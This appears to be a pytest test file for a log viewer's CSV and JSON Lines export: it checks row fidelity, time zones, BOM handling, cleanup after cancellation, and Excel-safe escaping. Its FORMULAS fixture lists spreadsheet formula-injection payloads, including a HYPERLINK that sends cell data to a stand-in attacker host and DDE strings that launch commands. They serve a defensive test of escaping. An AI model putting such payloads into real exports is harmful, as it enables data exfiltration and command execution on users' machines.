"""CSV and JSON Lines exports: the query's rows exactly, and nothing left behind when cancelled."""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from auditviewer.data.cancel import CancelToken
from auditviewer.data.errors import QueryCancelled
from auditviewer.data.export import export, to_text
from auditviewer.data.filters import Filter, Sort, parse_condition
from auditviewer.data.query import LogQuery
from auditviewer.data.source import LogTable, open_source
from auditviewer.data.timestamps import get_zone
from tests.helpers.dbfactory import DbFactory
from tests.unit.logrows import api_row, panel_row

ROWS = [
    panel_row(
        i,
        method=("GET", "POST")[i % 2],
        api_method_status=(None, "ok", "")[i % 3],
        user_agent=None if i % 4 else "Mozilla/5.0 (X11; Linux x86_64)",
        business_unit_id=i % 2 or None,
    )
    for i in range(1, 31)
]


@pytest.fixture
def panel(db: DbFactory) -> Iterator[LogTable]:
    with open_source(db.create({"panel": ROWS})) as source:
        yield source.log("panel")


def _as_csv_cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.isoformat(sep=" ")
    return str(value)


def _as_json_value(value: Any) -> Any:
    return value.isoformat(sep=" ") if isinstance(value, datetime) else value


def test_csv_is_the_header_and_the_rows_of_the_query(panel: LogTable) -> None:
    query = LogQuery(panel, Filter((parse_condition("method=POST"),)), Sort("id", True))
    rows = query.first(1000).rows
    text = to_text(query, "csv")
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[0] == list(query.columns) == panel.column_names
    assert parsed[1:] == [[_as_csv_cell(v) for v in row] for row in rows]
    assert len(parsed) - 1 == sum(1 for r in ROWS if r["method"] == "POST")
    assert text.endswith("\r\n") and "\r\n" in text
    assert parsed[1][2] == "2025-01-01 00:29:00"  # times in UTC, as stored


def test_json_lines_are_the_rows_of_the_query(panel: LogTable) -> None:
    query = LogQuery(panel, sort=Sort("id", False), columns=["id", "date", "api_method_status", "business_unit_id"])
    lines = to_text(query, "json").splitlines()
    assert [json.loads(line) for line in lines] == [
        {
            "id": r["id"],
            "date": _as_json_value(r["date"]),
            "api_method_status": r["api_method_status"],
            "business_unit_id": r["business_unit_id"],
        }
        for r in ROWS
    ]
    assert [json.loads(line)["api_method_status"] for line in lines[:3]] == ["ok", "", None]  # NULL is null


def test_times_follow_the_chosen_zone(panel: LogTable) -> None:
    query = LogQuery(panel, sort=Sort("id", False), columns=["id", "date"])
    text = to_text(query, "csv", zone=get_zone("Europe/Warsaw"), limit=1)
    assert text == "id,date\r\n1,2025-01-01 01:01:00+01:00\r\n"


def test_export_to_a_file(panel: LogTable, tmp_path: Path) -> None:
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    query = LogQuery(panel, sort=Sort("id", False))
    progress: list[int] = []
    assert export(query, "csv", tmp_path / "out.csv", progress=progress.append) == len(ROWS)
    assert progress == [len(ROWS)]
    assert (tmp_path / "out.csv").read_bytes() == to_text(query, "csv").encode("utf-8")
    assert export(query, "json", tmp_path / "out.jsonl", limit=7) == 7
    assert (tmp_path / "out.jsonl").read_text(encoding="utf-8") == to_text(query, "json", limit=7)
    assert sorted(os.listdir(tmp_path)) == ["out.csv", "out.jsonl"]


def test_bom_for_spreadsheets(panel: LogTable, tmp_path: Path) -> None:
    query = LogQuery(panel)
    export(query, "csv", tmp_path / "plain.csv")
    export(query, "csv", tmp_path / "excel.csv", bom=True)
    plain, excel = (tmp_path / "plain.csv").read_bytes(), (tmp_path / "excel.csv").read_bytes()
    assert not plain.startswith(b"\xef\xbb\xbf")
    assert excel == b"\xef\xbb\xbf" + plain
    assert excel.decode("utf-8-sig") == plain.decode("utf-8")


BIG = [panel_row(i) for i in range(1, 12_501)]


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_cancelled_export_leaves_nothing_behind(db: DbFactory, tmp_path: Path, fmt: str) -> None:
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    (out_dir / "keep.txt").write_text("unrelated", encoding="utf-8")
    existing = out_dir / "previous.csv"
    existing.write_text("an earlier export\n", encoding="utf-8")
    token = CancelToken()
    seen: list[int] = []

    def progress(done: int) -> None:
        seen.append(done)
        token.cancel()

    with open_source(db.create({"panel": BIG}, indexes=[])) as source:
        query = LogQuery(source.log("panel"))
        with pytest.raises(QueryCancelled):
            export(query, fmt, out_dir / "new.out", token=token, progress=progress)
        # Overwriting an earlier export with a cancelled one keeps the earlier file.
        with pytest.raises(QueryCancelled):
            export(query, fmt, existing, token=token)
        # The source still serves the next request.
        assert query.count() == len(BIG)
    assert seen == [10_000]
    assert sorted(os.listdir(out_dir)) == ["keep.txt", "previous.csv"]
    assert existing.read_text(encoding="utf-8") == "an earlier export\n"


def test_failed_export_leaves_nothing_behind(sqlite_db: DbFactory, tmp_path: Path) -> None:
    def progress(done: int) -> None:
        raise OSError("disk full")

    out_dir = tmp_path / "out"
    out_dir.mkdir()
    with open_source(sqlite_db.create({"panel": ROWS})) as source, pytest.raises(OSError, match="disk full"):
        export(LogQuery(source.log("panel")), "csv", out_dir / "out.csv", progress=progress)
    assert os.listdir(out_dir) == []


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-1",
]
PLAIN = ["/v2/api/item/1", "a=b", " =not at the start", "", "'already quoted"]


@pytest.fixture
def hostile_api(sqlite_db: DbFactory) -> Iterator[LogTable]:
    rows = [api_row(i + 1, url=text, status=-5 if i % 2 else 200) for i, text in enumerate(FORMULAS + PLAIN)]
    with open_source(sqlite_db.create({"api": rows})) as source:
        yield source.log("api")


def _url_and_status(text: str) -> list[list[str]]:
    return [row[:2] for row in csv.reader(io.StringIO(text, newline=""))][1:]


def test_csv_cells_are_the_evidence_as_it_is_by_default(hostile_api: LogTable) -> None:
    query = LogQuery(hostile_api, sort=Sort("id", False), columns=["url", "status"])
    assert [url for url, _ in _url_and_status(to_text(query, "csv"))] == FORMULAS + PLAIN


def test_excel_safe_csv_marks_text_that_excel_would_run_as_a_formula(hostile_api: LogTable, tmp_path: Path) -> None:
    query = LogQuery(hostile_api, sort=Sort("id", False), columns=["url", "status"])
    path = tmp_path / "for-excel.csv"
    export(query, "csv", path, bom=True, excel_safe=True)
    cells = _url_and_status(path.read_bytes().decode("utf-8-sig"))
    assert [url for url, _ in cells] == ["'" + text for text in FORMULAS] + PLAIN
    # A number is not text: -5 in the integer status column cannot hold a formula and is written as it is.
    assert [status for _, status in cells][:4] == ["200", "-5", "200", "-5"]
    assert to_text(query, "csv", excel_safe=True).splitlines()[0] == "url,status"


def test_json_is_never_changed_for_excel(hostile_api: LogTable, tmp_path: Path) -> None:
    query = LogQuery(hostile_api, sort=Sort("id", False))
    export(query, "json", tmp_path / "a.jsonl", excel_safe=True)
    assert (tmp_path / "a.jsonl").read_text(encoding="utf-8") == to_text(query, "json")
    assert [json.loads(line)["url"] for line in to_text(query, "json").splitlines()] == FORMULAS + PLAIN
